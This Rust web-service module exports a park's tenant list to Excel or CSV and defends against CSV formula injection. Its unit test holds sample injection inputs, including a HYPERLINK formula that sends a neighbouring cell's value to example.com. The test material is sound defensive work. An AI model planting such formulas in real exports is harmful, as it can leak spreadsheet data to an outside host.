//! The tenant list as a spreadsheet: the park manager's current filter exported to Excel
//! (.xlsx, Chinese headers) or CSV (UTF-8 with BOM, so Excel opens Chinese text correctly).

use actix_web::http::header;
use actix_web::{get, web, HttpResponse};
use chrono::{NaiveDate, NaiveDateTime};
use diesel::prelude::*;
use rust_xlsxwriter::{Format, Workbook};
use serde::Deserialize;
use utoipa::IntoParams;

use super::tenants::{query_tenants, TenantListCaches, TenantQuery};
use crate::accounts::identity::Identity;
use crate::db::schema::{enterprise_qualifications, enterprises, tenancies};
use crate::db::DbConn;
use crate::error::AppError;
use crate::state::AppState;

/// Rows exported at most (a base has far fewer tenants).
pub const MAX_EXPORT_ROWS: i64 = 100_000;

pub const HEADERS: [&str; 11] = [
    "企业名称",
    "统一社会信用代码",
    "入驻状态",
    "入驻环节",
    "申请日期",
    "入驻日期",
    "法定代表人",
    "所在区",
    "注册资本（元）",
    "员工人数",
    "资质",
];

fn status_zh(code: &str) -> &'static str {
    match code {
        "applied" => "已申请",
        "admitted" => "已入驻",
        "suspended" => "已暂停",
        "moved_out" => "已迁出",
        "rejected" => "未通过",
        _ => "",
    }
}

fn qualification_zh(kind: &str) -> &'static str {
    match kind {
        "high_tech" => "高新技术企业",
        "little_giant" => "专精特新“小巨人”企业",
        "specialized" => "专精特新中小企业",
        "tech_sme" => "科技型中小企业",
        _ => "其他",
    }
}

/// The exported cells of every matching tenant, in the list's order.
pub fn rows(conn: &mut DbConn, caches: &TenantListCaches, identity: &Identity, base_id: i64, q: &TenantQuery, due: &str) -> Result<Vec<[String; 11]>, AppError> {
    let (_, list) = query_tenants(conn, caches, false, identity, base_id, q, due, MAX_EXPORT_ROWS, 0)?;
    let mut out = Vec::with_capacity(list.len());
    for chunk in list.chunks(500) {
        let ids: Vec<i64> = chunk.iter().map(|r| r.enterprise_id).collect();
        let tids: Vec<i64> = chunk.iter().map(|r| r.tenancy_id).collect();
        type Details = (i64, Option<String>, Option<String>, Option<i64>, Option<i32>);
        let details: Vec<Details> = enterprises::table
            .filter(enterprises::id.eq_any(&ids))
            .select((enterprises::id, enterprises::legal_representative, enterprises::district, enterprises::registered_capital_fen, enterprises::employees))
            .load(conn)?;
        let admitted: Vec<(i64, Option<NaiveDateTime>)> =
            tenancies::table.filter(tenancies::id.eq_any(&tids)).select((tenancies::id, tenancies::admitted_at)).load(conn)?;
        let quals: Vec<(i64, String, Option<NaiveDate>)> = enterprise_qualifications::table
            .filter(enterprise_qualifications::enterprise_id.eq_any(&ids))
            .select((enterprise_qualifications::enterprise_id, enterprise_qualifications::kind, enterprise_qualifications::valid_until))
            .load(conn)?;
        for r in chunk {
            let d = details.iter().find(|d| d.0 == r.enterprise_id);
            let opt = |v: Option<&Option<String>>| v.and_then(|x| x.clone()).unwrap_or_default();
            out.push([
                r.name_zh.clone(),
                r.credit_code.clone(),
                status_zh(r.status.as_str()).to_string(),
                r.segment.clone().unwrap_or_default(),
                r.applied_at.format("%Y-%m-%d").to_string(),
                admitted.iter().find(|a| a.0 == r.tenancy_id).and_then(|a| a.1).map(|t| t.format("%Y-%m-%d").to_string()).unwrap_or_default(),
                opt(d.map(|d| &d.1)),
                opt(d.map(|d| &d.2)),
                d.and_then(|d| d.3).map(|f| shared::Fen(f).format_yuan()).unwrap_or_default(),
                d.and_then(|d| d.4).map(|e| e.to_string()).unwrap_or_default(),
                quals
                    .iter()
                    .filter(|q| q.0 == r.enterprise_id)
                    .map(|q| match q.2 {
                        Some(until) => format!("{}（至 {until}）", qualification_zh(&q.1)),
                        None => qualification_zh(&q.1).to_string(),
                    })
                    .collect::<Vec<_>>()
                    .join("；"),
            ]);
        }
    }
    Ok(out)
}

/// An .xlsx workbook with one sheet.
pub fn to_xlsx(rows: &[[String; 11]]) -> anyhow::Result<Vec<u8>> {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.set_name("入驻企业")?;
    let bold = Format::new().set_bold();
    for (c, h) in HEADERS.iter().enumerate() {
        sheet.write_string_with_format(0, c as u16, *h, &bold)?;
        sheet.set_column_width(c as u16, if c < 2 { 30 } else { 14 })?;
    }
    for (r, row) in rows.iter().enumerate() {
        for (c, v) in row.iter().enumerate() {
            sheet.write_string(r as u32 + 1, c as u16, v)?;
        }
    }
    sheet.set_freeze_panes(1, 0)?;
    Ok(book.save_to_buffer()?)
}

/// A cell a spreadsheet program would read as a formula (`=`, `+`, `-`, `@`, tab or carriage
/// return first) gets a leading apostrophe, so it is shown as text and never run (OWASP's
/// advice on CSV injection). The .xlsx export writes strings as strings and needs none of this.
pub fn neutralise_cell(value: &str) -> std::borrow::Cow<'_, str> {
    match value.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => std::borrow::Cow::Owned(format!("'{value}")),
        _ => std::borrow::Cow::Borrowed(value),
    }
}

/// CSV with a UTF-8 byte-order mark; every cell neutralised (see [`neutralise_cell`]).
pub fn to_csv(rows: &[[String; 11]]) -> anyhow::Result<Vec<u8>> {
    let mut w = csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec());
    w.write_record(HEADERS)?;
    for row in rows {
        w.write_record(row.iter().map(|c| neutralise_cell(c).into_owned()))?;
    }
    w.into_inner().map_err(|e| anyhow::anyhow!("csv: {e}"))
}

#[derive(Debug, Clone, Default, Deserialize, IntoParams)]
pub struct ExportQuery {
    /// `xlsx` (default) or `csv`.
    pub format: Option<String>,
}

/// The tenant list with the given filter as a spreadsheet (park managers of the base, admins).
#[utoipa::path(get, path = "/api/v1/bases/{id}/tenants/export", tag = "registry", params(("id" = i64, Path), ExportQuery, TenantQuery),
    responses((status = 200, description = "The .xlsx or .csv file", content((Vec<u8> = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"), (String = "text/csv"))), (status = 403), (status = 422)))]
#[get("/bases/{id}/tenants/export")]
pub async fn get_export(
    state: web::Data<AppState>,
    req: actix_web::HttpRequest,
    identity: Identity,
    path: web::Path<i64>,
    q: web::Query<ExportQuery>,
    filter: web::Query<TenantQuery>,
) -> Result<HttpResponse, AppError> {
    let base_id = path.into_inner();
    let q = q.into_inner();
    let csv = match q.format.as_deref().unwrap_or("xlsx") {
        "xlsx" => false,
        "csv" => true,
        _ => return Err(AppError::field("format", "not_allowed", "format must be xlsx or csv")),
    };
    let due = super::reports::due_period(&state).to_string();
    let filter = filter.into_inner();
    let st = state.clone();
    let meta = crate::accounts::audit::RequestMeta::from_request(&req);
    let bytes = state
        .db
        .run(move |conn| {
            let rows = rows(conn, &st.tenant_list, &identity, base_id, &filter, &due)?;
            crate::accounts::audit::record(
                conn,
                &meta,
                crate::accounts::audit::Event::new("tenants_exported").actor(identity.user_id).detail(serde_json::json!({
                    "base_id": base_id,
                    "format": if csv { "csv" } else { "xlsx" },
                    "rows": rows.len(),
                    "filter": serde_json::to_value(&filter).unwrap_or_default(),
                })),
            )?;
            Ok(if csv { to_csv(&rows)? } else { to_xlsx(&rows)? })
        })
        .await?;
    let (mime, ext) = if csv { ("text/csv; charset=utf-8", "csv") } else { ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx") };
    let name = format!("tenants-{base_id}-{}.{ext}", chrono::Utc::now().format("%Y%m%d"));
    Ok(HttpResponse::Ok()
        .insert_header((header::CONTENT_TYPE, mime))
        .insert_header((header::CONTENT_DISPOSITION, format!("attachment; filename=\"{name}\"")))
        .body(bytes))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_neutralised() {
        for bad in ["=HYPERLINK(\"http://example.com/?\"&B2,\"x\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(neutralise_cell(bad), format!("'{bad}"));
        }
        assert_eq!(neutralise_cell("上海科技"), "上海科技");
        assert_eq!(neutralise_cell(""), "");
        assert_eq!(neutralise_cell("a=b"), "a=b");
    }
}
